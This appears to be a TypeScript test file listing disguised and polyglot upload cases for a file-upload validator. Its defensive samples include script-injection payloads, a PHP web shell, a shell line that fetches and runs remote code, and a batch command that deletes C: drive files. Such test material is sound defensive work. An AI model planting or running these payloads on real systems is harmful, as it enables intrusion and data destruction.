/** Files whose content differs from what they claim. */
import { createPdf, createPicture, createFileOfType, sheetEntries, wordEntries } from "../files.ts";
import { createZip } from "../zips.ts";
import { damaged, refusedType, createFileCases } from "./upload.ts";

const script = "<script>fetch('/api/mariage/photos')</script>";
const page = `<!doctype html><title>x</title>${script}`;
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;

const active = createFileCases("active content in disguise", [
  ["a page called a text", { name: "liste.txt", bytes: page, type: "text/plain" }, refusedType],
  ["a page called a photo", { name: "nous.png", bytes: page, type: "image/png" }, refusedType],
  ["a page behind many spaces", { name: "liste.csv", bytes: `${" \r\n".repeat(5000)}${page}` }, refusedType],
  ["a page in UTF-16", { name: "liste.txt", bytes: Buffer.from(`\u{feff}${page}`, "utf16le") }, refusedType],
  ["a drawing with a script", { name: "plan.svg", bytes: drawing, type: "image/svg+xml" }, refusedType],
  ["a drawing called a photo", { name: "plan.jpg", bytes: `<?xml version="1.0"?>${drawing}` }, refusedType],
  [
    "a saved page with its parts",
    { name: "devis.txt", bytes: `From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}` },
    refusedType,
  ],
  ["php called a text", { name: "devis.php.txt", bytes: "<?php system($_GET['c']); ?>" }, refusedType],
]);

async function createPictureWith(type: "image/png" | "image/jpeg" | "image/webp", behind: string | Buffer) {
  return Buffer.concat([await createPicture(type), Buffer.from(behind)]);
}

const jar = () =>
  createZip([
    { name: "META-INF/MANIFEST.MF", content: "Main-Class: A" },
    { name: "A.class", content: "x" },
  ]);

const polyglots = createFileCases("two files in one", [
  [
    "a gif that is a jar",
    {
      name: "nous.gif",
      bytes: async () => Buffer.concat([Buffer.from("GIF89a\x01\0\x01\0\0\0\0;"), await jar()]),
    },
    refusedType,
  ],
  [
    "a pdf that is a page",
    { name: "devis.pdf", bytes: () => Buffer.concat([createPdf(), Buffer.from(page)]) },
    { storedType: "application/pdf", as: "devis.pdf" },
  ],
  [
    "a page that is a pdf",
    { name: "devis.pdf", bytes: () => Buffer.concat([Buffer.from(`${page}\n`), createPdf()]) },
    refusedType,
  ],
  [
    "a photo that is a zip",
    { name: "nous.jpg", bytes: async () => createPictureWith("image/jpeg", await jar()) },
    { storedType: "image/jpeg", as: "nous.jpg" },
  ],
  [
    "a photo that is a page",
    { name: "nous.html", bytes: () => createPictureWith("image/png", page) },
    { storedType: "image/png", as: "nous.html.png" },
  ],
  [
    "a photo that is a script",
    { name: "nous.webp", bytes: () => createPictureWith("image/webp", `*/=1;alert(1)//${script}`) },
    { storedType: "image/webp", as: "nous.webp" },
  ],
  [
    "a zip that is a pdf",
    { name: "devis.pdf", bytes: async () => Buffer.concat([await jar(), createPdf()]) },
    damaged,
  ],
  [
    "a contract that is a page",
    {
      name: "contrat.docx",
      bytes: async () => Buffer.concat([await createZip(wordEntries()), Buffer.from(page)]),
    },
    damaged,
  ],
]);

const programs = createFileCases("programs", [
  ["of Windows", { name: "devis.pdf", bytes: `MZ\x90\0\x03\0\0\0${"\0".repeat(200)}PE\0\0` }, refusedType],
  ["of Linux", { name: "devis.txt", bytes: `\x7fELF\x02\x01\x01${"\0".repeat(60)}` }, refusedType],
  ["of macOS", { name: "devis.png", bytes: Buffer.from("cffaedfe07000001", "hex") }, refusedType],
  ["for Java", { name: "devis.docx", bytes: jar }, refusedType],
  ["for a shell", { name: "devis.txt", bytes: "#!/bin/sh\ncurl http://exemple.invalid | sh\n" }, refusedType],
  ["for a browser", { name: "plan.wasm", bytes: Buffer.from("0061736d01000000", "hex") }, refusedType],
  [
    "for a browser, in words",
    { name: "plan.js", bytes: "alert(document.domain)", type: "text/javascript" },
    { storedType: "text/plain", as: "plan.js.txt" },
  ],
  [
    "for Windows, in words",
    { name: "devis.bat", bytes: "del /q C:\\*.*\r\n", type: "application/x-bat" },
    { storedType: "text/plain", as: "devis.bat.txt" },
  ],
]);

const endings = createFileCases("an ending that lies", [
  [
    "a photo called a pdf",
    { name: "devis.pdf", bytes: () => createPicture("image/png") },
    { storedType: "image/png", as: "devis.png" },
  ],
  [
    "a pdf called a photo",
    { name: "nous.jpg", bytes: () => createPdf() },
    { storedType: "application/pdf", as: "nous.pdf" },
  ],
  [
    "a sheet called a contract",
    { name: "contrat.docx", bytes: async () => createZip(sheetEntries()) },
    { storedType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", as: "contrat.xlsx" },
  ],
  [
    "a text called a pdf",
    { name: "devis.pdf", bytes: () => createFileOfType("text/plain") },
    { storedType: "text/plain", as: "devis.txt" },
  ],
  [
    "a pdf called a program",
    { name: "devis.pdf.exe", bytes: () => createPdf() },
    { storedType: "application/pdf", as: "devis.pdf.exe.pdf" },
  ],
  [
    "a contract called a page",
    { name: "contrat.html", bytes: async () => createZip(wordEntries()), type: "text/html" },
    {
      storedType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      as: "contrat.html.docx",
    },
  ],
]);

const claims = createFileCases("a type that lies", [
  [
    "a photo said to be a page",
    { name: "nous.png", bytes: () => createPicture("image/png"), type: "text/html" },
    { storedType: "image/png", as: "nous.png" },
  ],
  [
    "a text said to be a drawing",
    { name: "note.txt", bytes: "Bonjour", type: "image/svg+xml" },
    { storedType: "text/plain", as: "note.txt" },
  ],
  ["a page said to be a pdf", { name: "devis.pdf", bytes: page, type: "application/pdf" }, refusedType],
  [
    "a text said to be several things",
    { name: "note.txt", bytes: "Bonjour", type: "text/plain, text/html; charset=utf-7" },
    { storedType: "text/plain", as: "note.txt" },
  ],
  [
    "a text said to be json",
    { name: "note.txt", bytes: "{", type: "application/json" },
    { storedType: "text/plain", as: "note.txt" },
  ],
]);

export const contentUploads = [...active, ...polyglots, ...programs, ...endings, ...claims];
